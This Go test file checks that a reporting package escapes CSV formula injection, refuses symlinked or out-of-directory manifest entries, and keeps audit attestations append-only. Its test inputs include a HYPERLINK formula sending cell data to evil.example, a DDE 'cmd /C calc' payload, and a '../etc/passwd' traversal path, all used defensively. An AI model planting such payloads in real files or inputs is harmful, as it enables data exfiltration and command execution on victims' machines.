package report

import (
	"context"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A cell an auditor's spreadsheet would read as a formula (it starts with
// = + - @, a tab or a carriage return: OWASP's CSV injection) is written
// with a leading apostrophe, so Excel shows it as text; numbers stay
// numbers. report.json keeps the values as they are.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	d := outputDocument()
	cells := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1+1", "\r=1+1", "-5", "+7", "-1.5", "12", "plain", ""}
	want := []string{`'=HYPERLINK("http://evil.example/?x="&A1,"open")`, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)",
		"'\t=1+1", "'\r=1+1", "-5", "+7", "-1.5", "12", "plain", ""}
	d.Sections[0].Tables[0].Columns = []string{"=c1", "c2"}
	d.Sections[0].Tables[0].Rows = nil
	for _, c := range cells {
		d.Sections[0].Tables[0].Rows = append(d.Sections[0].Tables[0].Rows, []string{c, "x"})
	}
	dir := filepath.Join(t.TempDir(), "r")
	if err := Write(context.Background(), dir, d, []Format{FormatJSON, FormatCSV}, Printer{}); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(filepath.Join(dir, "changes-by-application.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	records, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if records[0][0] != "'=c1" {
		t.Errorf("header cell = %q, want %q", records[0][0], "'=c1")
	}
	for i, w := range want {
		// encoding/csv drops a lone CR when it reads a quoted field.
		if got := records[i+1][0]; got != strings.ReplaceAll(w, "\r", "") {
			t.Errorf("cell %q written as %q, want %q", cells[i], got, w)
		}
	}
	raw, _ := os.ReadFile(filepath.Join(dir, JSONFile))
	if !strings.Contains(string(raw), `"@SUM(A1:A9)"`) {
		t.Error("report.json lost a value as it is")
	}
}

// Verify accepts only regular files: a symlink in the report (even to the
// same bytes) names a file whose content can change behind the manifest.
// A manifest naming a file outside the directory is refused.
func TestVerifyRefusesLinksAndPathsOutside(t *testing.T) {
	dir := writeSample(t)
	outside := filepath.Join(t.TempDir(), "copy.json")
	b, _ := os.ReadFile(filepath.Join(dir, JSONFile))
	if err := os.WriteFile(outside, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, JSONFile)); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, JSONFile)); err != nil {
		t.Fatal(err)
	}
	_, err := Verify(dir)
	var ve *VerifyError
	if !errors.As(err, &ve) || !strings.Contains(err.Error(), "not a regular file: "+JSONFile) {
		t.Errorf("Verify with report.json a symlink = %v, want a VerifyError naming it", err)
	}

	dir = writeSample(t)
	m := filepath.Join(dir, ManifestFile)
	raw, _ := os.ReadFile(m)
	line := strings.Repeat("0", 64) + "  ../etc/passwd\n"
	if err := os.WriteFile(m, append(raw, line...), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(dir); err == nil || !strings.Contains(err.Error(), "is not a file of the report") {
		t.Errorf("Verify of a manifest naming ../etc/passwd = %v, want refused", err)
	}
}

// An empty manifest vouches for nothing: Verify refuses it rather than
// finding "every file matches" in an emptied directory.
func TestVerifyRefusesAnEmptyManifest(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, ManifestFile), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(dir); err == nil {
		t.Error("Verify accepted an empty manifest in an empty directory")
	}
}

// Attestations are evidence: recorded ones are never changed or removed,
// not by UPDATE, DELETE or TRUNCATE; a changed report is not attested.
func TestAttestationsAppendOnly(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	_, pool := mustArchive(t, "")
	dir := writeSample(t)
	a, err := Attest(ctx, pool, dir, "Ada Auditor", Approved, "fine")
	if err != nil || a.ID == 0 || a.Kind != string(Weekly) || a.Period != "2026-W48" {
		t.Fatalf("Attest = %+v, %v", a, err)
	}
	for _, sql := range []string{
		`UPDATE report_attestations SET decision = 'rejected'`,
		`DELETE FROM report_attestations`,
		`TRUNCATE report_attestations`,
	} {
		if _, err := pool.Exec(ctx, sql); err == nil || !strings.Contains(err.Error(), "append-only") {
			t.Errorf("%s: %v, want refused as append-only", sql, err)
		}
	}
	if list, err := Attestations(ctx, pool, 10); err != nil || len(list) != 1 || list[0].Decision != Approved {
		t.Errorf("attestations after the attempts = %+v, %v; want the one approval unchanged", list, err)
	}
	flip := dir + "/" + JSONFile
	if err := appendByte(flip); err != nil {
		t.Fatal(err)
	}
	if _, err := Attest(ctx, pool, dir, "Ada Auditor", Approved, ""); err == nil || !strings.Contains(err.Error(), "changed: "+JSONFile) {
		t.Errorf("Attest of a changed report = %v, want refused naming %s", err, JSONFile)
	}
}

func appendByte(path string) error {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	if _, err := f.Write([]byte(" ")); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}
